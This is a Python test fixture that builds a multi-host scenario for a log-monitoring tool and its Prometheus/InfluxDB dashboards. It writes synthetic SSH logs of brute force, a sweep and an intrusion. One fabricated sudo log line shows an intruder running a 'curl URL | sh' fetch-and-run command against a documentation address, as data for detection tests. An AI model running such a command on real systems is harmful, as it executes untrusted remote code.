"""One scenario on nine hosts that covers everything the dashboards query.

It runs real exporters and a real aggregator, a Prometheus that scrapes them (and node_exporter),
and an InfluxDB to which the exporters deliver. Five days of logs are history before any of them
starts; later events happen while Prometheus scrapes, so that its counters change. An intruder
breaks into one host: after failures, then as root, and creates an account that runs `curl | sh`.
One address tries all hosts, and one host is down at the end.
"""

import json
import os
import re
import subprocess
import sys
import time
from contextlib import ExitStack
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Final, Self
from urllib.parse import urlencode
from urllib.request import urlopen

from tests.support import needs
from tests.support.influxdb import Daemon, Influxd
from tests.support.ports import reserve_port
from tests.support.real.sandbox import wait_until

HOST: Final = "web-1"
DEAD: Final = "gone-1"
QUIET: Final = ("bastion-1", "build-1", "db-1", "mail-1", "shop-1", "web-2", "web-3")
OTHERS: Final = (*QUIET, DEAD)
"""Hosts that only the sweep reaches."""
INTRUDER: Final = "203.0.113.7"
SWEEPER: Final = "198.51.100.77"
_RECORDED: Final = Path(__file__).parents[2] / "provisioning" / "prometheus" / "rules" / "fleet.yml"
HOUR: Final = 3600
DAY: Final = 24 * HOUR

_CONFIG: Final = """
host: {host}
store: {{path: {folder}/{host}.db}}
sources: [{{type: file, name: auth, paths: [{folder}/{host}.log], timezone: UTC}}]
exporter: {{listen: "127.0.0.1:{exporter}"}}
aggregator:
  listen: "127.0.0.1:{aggregator}"
  store: {{path: {folder}/reports.db}}
  poll: 100ms
  max_wait: 1s
  findings: {{baseline: {{look_back: 5d, settle: 1d, events: 3}}}}
influxdb:
  url: {url}
  delivery: {{flush_interval: 100ms}}
"""
_SCRAPE: Final = """
global: {{scrape_interval: 2s, scrape_timeout: 2s, evaluation_interval: 2s}}
rule_files: [fleet.yml]
scrape_configs:
  - job_name: heptad
    static_configs: [{{targets: [{exporters}]}}]
  - job_name: heptad-aggregator
    static_configs: [{{targets: ["127.0.0.1:{aggregator}"]}}]
  - job_name: node
    static_configs: [{{targets: ["127.0.0.1:{node}"]}}]
  - job_name: no-host
    static_configs: [{{targets: ["127.0.0.1:{prometheus}"]}}]
"""

# A heartbeat a second instead of a minute, and revisions at once, so that tests need not wait; and
# a different machine id for each host.
_PROGRAM: Final = """
import hashlib
import sys
from heptad.aggregator.detection import revisions as ledger
from heptad.exporter.delivery import heartbeat as pulse
from heptad.exporter import app as service
service.find_machine_id = lambda _: hashlib.md5(sys.argv[-1].encode()).hexdigest()
from heptad.cli.main import main
pulse.EVERY = 1.0
ledger._PAUSE = 0.0
main()
"""

_USUAL: Final = """
sshd[{pid}]: Accepted publickey for alice from 192.0.2.20 port 40001 ssh2: ED25519 SHA256:abc
sshd[{pid}]: pam_unix(sshd:session): session opened for user alice(uid=1001) by (uid=0)
sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update
sshd[{pid}]: pam_unix(sshd:session): session closed for user alice
"""
_ATTACK: Final = """
sshd[{pid}1]: Failed password for {user} from 203.0.113.7 port 4{n:04} ssh2
"""
_SWEEP: Final = """
sshd[{pid}{n}]: Failed password for invalid user {user} from 198.51.100.77 port 5{n:04} ssh2
"""
_AFTERWARDS: Final = """
sshd[{pid}]: Accepted password for bob from 203.0.113.7 port 40100 ssh2
sshd[{pid}]: pam_unix(sshd:session): session opened for user bob(uid=1002) by (uid=0)
sudo:      bob : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh
su[{pid}7]: FAILED SU (to root) bob on pts/2
sshd[{pid}8]: Accepted password for root from 203.0.113.7 port 40101 ssh2
useradd[{pid}]: new user: name=dave, UID=1009, GID=1009, home=/home/dave, shell=/bin/bash, from=none
usermod[{pid}]: add 'dave' to group 'sudo'
passwd[{pid}]: pam_unix(passwd:chauthtok): password changed for dave
sudo:     dave : TTY=pts/2 ; PWD=/home/dave ; USER=root ; COMMAND=/bin/bash -c 'curl {url} | sh'
sshd[{pid}9]: Accepted publickey for alice from 10.9.{n}.30 port 40002 ssh2: ED25519 SHA256:abc
sshd[{pid}]: pam_unix(sshd:session): session closed for user bob
sshd[{pid}6]: a line that no rule understands
"""


def log_of(since: float, number: int, *, attack: bool = True, pace: float = 1) -> str:
    """Return a log of the host that starts at this time (Unix time), ``pace`` seconds per line."""
    pid = 1000 + number
    text = _USUAL.format(pid=pid)
    if attack:
        users = ["root", "bob", *(f"invalid user u{n}" for n in range(12))]
        text += "".join(_ATTACK.format(pid=pid, user=u, n=n) for n, u in enumerate(users))
        text += _AFTERWARDS.format(pid=pid + 1, n=number, url="http://198.51.100.9/x")
    return _stamp(HOST, text, since, pace)


def log_of_other(host: str, since: float) -> str:
    """Return the log of a host that only the sweep reaches; the sweep starts at this time."""
    pid = 4000 + OTHERS.index(host)
    usual = (_stamp(host, _USUAL.format(pid=pid + n), since - n * DAY, 1) for n in (4, 3, 2, 1))
    swept = "".join(_SWEEP.format(pid=pid, n=n, user=u) for n, u in enumerate(("admin", "test")))
    return "".join(usual) + _stamp(host, swept, since + OTHERS.index(host), 1)


def _stamp(host: str, text: str, since: float, pace: float) -> str:
    lines = [line for line in text.splitlines() if line]
    stamps = (datetime.fromtimestamp(since + n * pace, UTC).isoformat() for n in range(len(lines)))
    return "".join(f"{at} {host} {line}\n" for at, line in zip(stamps, lines, strict=True))


class DashboardWorld:
    """Use as a context manager; when it is entered, everything has happened."""

    def __init__(self, folder: Path) -> None:
        needs.program("prometheus", "prometheus-node-exporter")
        self.folder = folder
        self.log = folder / f"{HOST}.log"
        names = ("exporter", "aggregator", "node", "prometheus", *OTHERS)
        self.ports = {name: reserve_port() for name in names}
        self.influxd = Influxd(folder / "influxd")
        self._stack = ExitStack()

    def __enter__(self) -> Self:
        with ExitStack() as stack:
            self._run(stack)
            self._stack = stack.pop_all()
        return self

    def __exit__(self, *_: object) -> None:
        self._stack.close()

    def _run(self, stack: ExitStack) -> None:
        self.influxd.start()
        stack.callback(self.influxd.kill)
        self.influxd.create("events", "reports", "heptad")
        now = time.time()
        history = [log_of(now - days * DAY, days, attack=False) for days in (5, 4, 3, 2)]
        self.yesterday, self.earlier = now - DAY, now - 2 * HOUR
        history += [log_of(self.yesterday, 1), log_of(self.earlier, 0)]
        self.log.write_text("".join(history))
        for host in OTHERS:
            (self.folder / f"{host}.log").write_text(log_of_other(host, now - 3 * HOUR / 2))
        dying = self._start_parts(stack)
        self.prometheus = self._start_prometheus(stack)
        self._wait_for("count(up == 1) == 12")
        self._wait_for('sum(heptad_lines_total{result="event"}) > 0')
        self._wait_for_reports()
        self._live()
        self._wait_for('sum(increase(auth_events_total{action="login"}[5m])) > 40')
        self._wait_for("max(heptad_delivery_behind_events) == 0")
        # events before the start have no counter
        swept = """SELECT "count" FROM "findings_current" WHERE "rule" = 'sweep'"""
        wait_until(lambda: self.influxd.rows(swept, "reports"), "the sweep is found", 60)
        dying.terminate()
        dying.wait(30)
        self._wait_for("count(up == 0) == 1")
        self._wait_for('sum(heptad_findings_total{rule="new_network"}) > 0')
        self.until = time.time()

    def _wait_for_reports(self) -> None:
        """Wait until the reports exist, so that late events revise them."""
        windows = [(self.yesterday, "1d", DAY)]
        windows += [
            (at, name, size)
            for at in (self.yesterday, self.earlier)
            for name, size in (("5m", 300), ("1h", HOUR))
        ]
        # a row is some nanoseconds after the start of its window
        wanted = {(name, int(at // size * size)) for at, name, size in windows}

        def are_there() -> bool:
            found = self.influxd.rows('SELECT "events", "window" FROM "report_attempts"', "reports")
            return wanted <= {(row["window"], row["time"] // 10**9) for row in found}

        wait_until(are_there, f"the reports {wanted}, see {self.folder}", 120)

    def _live(self) -> None:
        """Produce events while Prometheus scrapes.

        Three attacks, lines that are hours and a day late, and a truncated log.
        """
        found = 'sum(last_over_time(heptad_findings_total{rule="brute_force"}[1m]))'
        before = self.ask(found)[0]["value"][1]
        for number in range(3, 6):
            if number == 4:  # a finding of one attack becomes one of two: a revision
                self._wait_for(f"{found} > {before}")
            told = "sum(last_over_time(auth_events_total[1m]))"
            seen = self.ask(told)[0]["value"][1]
            with self.log.open("a") as log:
                log.write(log_of(time.time() - 1, number, pace=0.01))
            self._wait_for(f"{told} > {seen}")
        with self.log.open("a") as log:
            log.write(log_of(self.yesterday, 6, attack=False) + log_of(self.earlier + 1, 7))
        self._wait_for('sum(heptad_aggregator_revisions_total{part="report_attempts"}) >= 5')
        os.truncate(self.log, self.log.stat().st_size - 30)
        self._wait_for("sum(heptad_gaps_total) > 0")

    def _start_parts(self, stack: ExitStack) -> subprocess.Popen[bytes]:
        """Start all parts; return the exporter of the host that will be stopped."""
        self._start_part(stack, HOST, "exporter")
        self._start_part(stack, HOST, "aggregator")
        exporters = {host: self._start_part(stack, host, "exporter") for host in OTHERS}
        node = f"--web.listen-address=127.0.0.1:{self.ports['node']}"
        self._spawn(stack, "node", ["prometheus-node-exporter", node])
        return exporters[DEAD]

    def _start_part(self, stack: ExitStack, host: str, part: str) -> subprocess.Popen[bytes]:
        ports = {"exporter": self.ports[self.target(host)], "aggregator": self.ports["aggregator"]}
        config = self.folder / f"{host}.yaml"
        text = _CONFIG.format(host=host, folder=self.folder, url=self.influxd.url, **ports)
        config.write_text(text)
        command = [sys.executable, "-c", _PROGRAM, part, "--config", str(config)]
        return self._spawn(stack, f"{part}-of-{host}", command)

    @staticmethod
    def target(host: str) -> str:
        """Return the key of the port of a host's exporter."""
        return "exporter" if host == HOST else host

    def instance(self, host: str) -> str:
        """Return the Prometheus instance of a host's exporter."""
        return f"127.0.0.1:{self.ports[self.target(host)]}"

    def _spawn(self, stack: ExitStack, name: str, command: list[str]) -> subprocess.Popen[bytes]:
        log = stack.enter_context((self.folder / f"output-of-{name}").open("wb"))
        process = subprocess.Popen(command, stdout=log, stderr=log)
        stack.callback(process.wait, 30)
        stack.callback(process.terminate)
        return process

    def _start_prometheus(self, stack: ExitStack) -> Daemon:
        config = self.folder / "prometheus.yml"
        exporters = ", ".join(f'"{self.instance(host)}"' for host in (HOST, *OTHERS))
        config.write_text(_SCRAPE.format(exporters=exporters, **self.ports))
        # recorded every five seconds instead of minutes, so that tests need not wait
        (self.folder / "fleet.yml").write_text(re.sub(r"\b5m\b", "5s", _RECORDED.read_text()))
        port = self.ports["prometheus"]
        command = [
            "prometheus",
            f"--config.file={config}",
            f"--storage.tsdb.path={self.folder}/tsdb",
        ]
        daemon = Daemon(self.folder, [*command, f"--web.listen-address=127.0.0.1:{port}"], port)
        daemon.start("/-/ready")
        stack.callback(daemon.kill)
        return daemon

    def _wait_for(self, condition: str) -> None:
        wait_until(lambda: self.ask(condition), f"{condition}, see {self.folder}", 120)

    def ask(self, query: str, **range_: float) -> list[dict[str, Any]]:
        """Return Prometheus' result; with start, end and step over a range."""
        kind = "query_range" if range_ else "query"
        text = urlencode({"query": query, **range_})
        with urlopen(f"{self.prometheus.url}/api/v1/{kind}?{text}", timeout=30) as answer:  # noqa: S310
            found: list[dict[str, Any]] = json.load(answer)["data"]["result"]
        return found
